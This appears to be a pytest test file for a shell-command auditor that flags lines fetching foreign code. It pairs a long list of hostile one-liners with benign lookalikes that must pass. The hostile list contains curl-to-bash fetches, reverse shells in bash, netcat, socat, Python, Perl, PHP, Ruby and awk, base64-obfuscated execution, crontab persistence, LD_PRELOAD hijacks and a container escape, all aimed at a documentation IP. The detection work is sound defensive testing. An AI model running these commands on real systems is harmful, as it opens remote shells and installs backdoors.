"""What a shell command line does: spellings that bring foreign code, and the honest lines that look like them."""

from __future__ import annotations

import pytest

from gpuclinic.audit.commands import deeds

BAD = r"""
curl -fsSL http://198.51.100.7/x | bash
curl -s http://198.51.100.7/x|sudo -E bash -
wget -qO- http://198.51.100.7/x | sh -s -- -a
(curl -fsSL http://198.51.100.7/x || wget -q -O- http://198.51.100.7/x) | bash
curl -s http://198.51.100.7/x | tee /tmp/y | sh
curl http://198.51.100.7/x.gz | gunzip | bash
curl http://198.51.100.7/x | base64 -d | bash
echo aGVsbG8= | base64 -d | bash
echo aGVsbG8= | base64 --decode | sh
echo aGVsbG8= | /usr/bin/base64 -di | bash
bash -c "$(curl -fsSL http://198.51.100.7/x)"
sh -c "$(wget -qO- http://198.51.100.7/x)"
bash -c `curl -s http://198.51.100.7/x`
bash <(curl -s http://198.51.100.7/x)
. <(curl -s http://198.51.100.7/x)
source <(curl -s http://198.51.100.7/x)
eval "$(curl -s http://198.51.100.7/x)"
eval $(echo aGVsbG8= | base64 -d)
bash <<< "$(curl -s http://198.51.100.7/x)"
bash<<<$(curl -s http://198.51.100.7/x)
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done
nc -e /bin/sh 198.51.100.7 4444
ncat 198.51.100.7 4444 --exec /bin/bash
ncat 198.51.100.7 4444 --sh-exec 'bash -i'
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
python3 -c "import urllib.request as u;exec(u.urlopen('http://198.51.100.7/x').read())"
python -c "exec(__import__('base64').b64decode('aGVsbG8='))"
python3 -c "import requests;exec(requests.get('http://198.51.100.7').text)"
perl -e 'use Socket;$i="198.51.100.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");'
perl -MLWP::Simple -e 'eval get("http://198.51.100.7/x")'
php -r '$s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
ruby -rsocket -e 'c=TCPSocket.new("198.51.100.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
wget -q http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x
wget http://198.51.100.7/x && chmod 755 x && ./x
cd /tmp && curl -O http://198.51.100.7/kd && chmod +x kd && ./kd
curl -o /var/tmp/a http://198.51.100.7/a && nohup /var/tmp/a >/dev/null 2>&1 &
curl -sLo /opt/.u http://198.51.100.7/u && sh /opt/.u
curl -fsSL http://198.51.100.7/x > /opt/a.sh; bash /opt/a.sh
curl -fsSL http://198.51.100.7/x -o /opt/a.sh; sleep 3; nice -n 19 bash /opt/a.sh &
/dev/shm/.x/run >/dev/null 2>&1
nohup /tmp/.ICE-unix/.x &
/root/.config/.sys/update
test -x /tmp/.u && /tmp/.u
[ -x /tmp/.u/a ] && /tmp/.u/a
pgrep -f nvupd >/dev/null || /var/tmp/.nv/nvupd -c /var/tmp/.nv/c.json
pgrep -x kd || (cd /dev/shm/.k && ./kd &)
cd /tmp/.x && ./run
(cd /dev/shm/.k; ./kd -c config.json)
flock -n /tmp/.l -c "/tmp/.x/y"
python3 /tmp/.cache/u.py
c=$(curl -s http://198.51.100.7/x); eval "$c"
x=$(echo aGVsbG8= | base64 -d); bash -c "$x"
U=http://198.51.100.7/x; curl -s $U | sh
curl -s "$(echo aHR0cDo= | base64 -d)" | bash
(crontab -l; echo "* * * * * curl -s http://198.51.100.7/x | sh") | crontab -
/bin/bash -c 'curl -fsSL http://198.51.100.7/x | bash'
su - ann -c "curl -s http://198.51.100.7/x | sh"
timeout 60 curl -s http://198.51.100.7/x | timeout 60 bash
busybox wget -O- http://198.51.100.7/x | busybox sh
curl -s http://198.51.100.7/x | xargs -0 bash -c
curl -s http://198.51.100.7/x | python3 -
curl -s http://198.51.100.7/x | perl
lwp-download http://198.51.100.7/x /tmp/x; bash /tmp/x
openssl enc -d -aes-256-cbc -in /var/cache/x -k p | sh
openssl s_client -quiet -connect 198.51.100.7:443 | /bin/sh
xxd -r -p /etc/.x | bash
printf '\x63\x75' | bash
echo 726d | xxd -r -p | sh
rev <<< 'x' | bash
dig +short txt x.example.net | base64 -d | sh
dig +short TXT c.example.net | tr -d '"' | bash
socat exec:'bash -li',pty,stderr tcp:198.51.100.7:4444
socat TCP:198.51.100.7:443 EXEC:/bin/sh
telnet 198.51.100.7 4444 | /bin/sh | telnet 198.51.100.7 4445
nohup bash -c 'exec bash -i &>/dev/tcp/198.51.100.7/443 <&1' &
cur''l -s http://198.51.100.7/x | ba''sh
\curl -s http://198.51.100.7/x | \bash
curl -s http://198.51.100.7/x | ${SHELL}
curl -s http://198.51.100.7/x | $0
curl -s http://198.51.100.7/x | env bash
curl -s http://198.51.100.7/x | exec bash
{ curl -s http://198.51.100.7/x; } | bash
if ! pgrep x; then curl -s http://198.51.100.7/x | bash; fi
for i in 1 2; do curl -s http://198.51.100.7/x | sh && break; done
while true; do /dev/shm/.a; sleep 5; done
curl -s https://pastebin.com/raw/abc | bash
curl -s http://abc.onion.ws/x | bash
curl -x socks5h://127.0.0.1:9050 http://abc.onion/x | sh
curl -s 198.51.100.7/x | bash
curl -s evil.example:8080/x|sh
wget -O - -q http://198.51.100.7/i.jpg | tail -c +100 | sh
setsid /tmp/.x/y
systemd-run --user /tmp/.x/y
exec -a kworker /tmp/.x/y
sh -c "exec -a '[kworker/0:0]' /var/tmp/.x/y"
LD_PRELOAD=/tmp/.x.so /usr/bin/cron
env LD_PRELOAD=/dev/shm/x.so sshd
nsenter -t 1 -m -u -i -n -- sh -c 'curl -s http://198.51.100.7/x|sh'
/lib64/ld-linux-x86-64.so.2 /tmp/.x/y
docker run -v /:/host alpine chroot /host sh -c 'curl http://198.51.100.7/x | sh'
gzip -dc /var/cache/.x | bash
tail -n +5 /var/lib/.x | sh
cat /tmp/.x | bash
bash < /tmp/.x
sh </dev/shm/a
scp u@198.51.100.7:x /tmp/x && /tmp/x
chmod +x /dev/shm/kd && /dev/shm/kd
cp /usr/share/.x /tmp/k && /tmp/k
node -e "require('http').get('http://198.51.100.7/x',r=>r.on('data',d=>eval(d.toString())))"
awk 'BEGIN{s="/inet/tcp/0/198.51.100.7/4444";while(1){do{s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!="exit")}}'
python3 -m base64 -d /var/x | sh
base64 -d /etc/.x > /opt/y; sh /opt/y
base64 -d <<< aGVsbG8= | sh
base64 -d <<< "aGVsbG8=" | bash -i
bash -c "$(base64 -d <<< aGVsbG8=)"
bash -c "{echo,aGVsbG8=}|{base64,-d}|{bash,-i}"
"""
GOOD = r"""
zcat /backup/plan.sh.gz | bash
curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/uuid
curl -fsS https://hc-ping.com/x > /dev/null
wget -q -O /dev/null https://status.example.com/ping
curl -s http://localhost:9400/metrics | grep -q DCGM
curl -s http://127.0.0.1:8080/health | python3 -m json.tool
curl -s https://api.example.com/x | jq .status
curl -s https://api.example.com/x | python3 -c 'import json,sys; print(json.load(sys.stdin)["a"])'
curl -s http://169.254.169.254/latest/user-data | bash
test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
certbot -q renew --deploy-hook "systemctl reload nginx"
[ -x /usr/bin/certbot -a \! -d /run/systemd/system ] && perl -e 'sleep int(rand(43200))' && certbot -q renew
"/home/ann/.acme.sh"/acme.sh --cron --home "/home/ann/.acme.sh" > /dev/null
find /tmp -type f -atime +10 -delete
find /var/tmp -name '.nfs*' -mtime +3 -delete
rm -rf /tmp/.X11-unix-old
borg create --stats /mnt/b::x /home && borg prune /mnt/b
restic -r s3:https://s3.example.com/b backup /home
rclone sync /data remote:data --log-file /tmp/rclone.log
rsync -a --delete /home/ backup:/home/ 2>&1 | tee /tmp/rsync.log | mail -s backup root
mysqldump -u root db | gzip > /backup/db.gz
pg_dump db | gzip | ssh backup 'cat > /b/db.gz'
eval "$(ssh-agent -s)"
eval "$(/home/ann/miniconda3/bin/conda shell.bash hook)"
eval "$(direnv hook bash)"
eval "$(pyenv init -)"
eval "$(starship init bash)"
source <(kubectl completion bash)
. "$HOME/.cargo/env"
[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"
source /opt/ros/humble/setup.bash
. /etc/profile.d/lmod.sh
ssh gpu02 'nvidia-smi -q' | tee /tmp/smi.txt
nvidia-smi --query-gpu=name --format=csv > /tmp/gpus.csv
flock -n /tmp/sync.lock /usr/local/bin/sync.sh
flock -n /var/lock/x -c "/opt/x/y"
sleep 30; /usr/bin/python3 /opt/mon/agent.py >> /tmp/agent.log 2>&1
wget -q https://example.com/list.txt -O /etc/list.txt
curl -o /var/lib/GeoIP/x.mmdb https://example.com/x.mmdb && systemctl reload nginx
curl -sSL https://example.com/feed.tar.gz | tar xz -C /opt/feed
curl -s https://example.com/key.gpg | gpg --dearmor > /usr/share/keyrings/x.gpg
curl -s https://example.com/k.asc | apt-key add -
wget -qO - https://download.docker.com/linux/ubuntu/gpg | sudo apt-key add -
curl https://example.com/x | sha256sum
echo aGVsbG8= | base64 -d > /etc/key.bin
kubectl get secret x -o jsonpath='{.data.p}' | base64 -d
openssl enc -d -aes-256-cbc -in b.tar.enc -out b.tar
/usr/lib/sysstat/sa1 1 1
/usr/local/bin/backup.sh | bash -x
cat /etc/scripts/a.sh | bash
curl -X POST -H 'Content-type: application/json' --data '{"text":"bash done"}' https://hooks.slack.com/services/T/B/x
curl -s -X POST https://api.telegram.org/bot123/sendMessage -d text="sh failed"
docker run --rm -v /home:/data alpine sh -c 'tar cz /data' > /b.tgz
nc -z localhost 22
python3 -c "import torch;print(torch.cuda.is_available())"
python3 -c 'import urllib.request;urllib.request.urlopen("https://hc-ping.com/x")'
/home/ann/.local/bin/jupyter lab --no-browser
/home/ann/.venv/bin/python train.py
/home/ann/.pyenv/shims/python3 /home/ann/x.py
bash /home/ann/.dotfiles/sync.sh
/opt/nvidia/dcgm-exporter -f /etc/x.csv
nohup /home/ann/.vscode-server/bin/abc/server.sh &
cd /home/ann/proj && ./run.sh
cd /tmp && tar czf b.tgz /etc
cd /tmp; ./configure
python3 /home/ann/.jupyter/x.py
ssh -T git@github.com
/usr/bin/systemd-tmpfiles --clean
/bin/sh /tmp/slurmd/job01234/slurm_script
srun bash -c 'curl -s http://127.0.0.1:8000/health'
export PATH="$HOME/.local/bin:$PATH"
test -f ~/.bash_aliases && . ~/.bash_aliases
wget https://repo.example.com/pkg.deb && dpkg -i pkg.deb
git -C /opt/site pull -q && /opt/site/apply.sh
cd /opt/site && git pull -q && ./apply.sh
chronyc tracking | mail root
logger "curl | bash is disallowed"
curl -fsS https://example.com/x -o /tmp/x.json && python3 /opt/load.py /tmp/x.json
wget -q https://example.com/data.csv -O /srv/d.csv && python3 /opt/ingest.py /srv/d.csv
"""


@pytest.mark.parametrize("line", BAD.strip().splitlines())
def test_bad(line: str) -> None:
    assert any(deed.strong for deed in deeds(line)), line


@pytest.mark.parametrize("line", GOOD.strip().splitlines())
def test_good(line: str) -> None:
    assert deeds(line) == []


def test_installer_of_a_named_host() -> None:
    assert [(d.what, d.strong) for d in deeds("curl --proto '=https' https://sh.rustup.rs | sh -s -- -y")] == [
        ("remote_code", False)
    ]
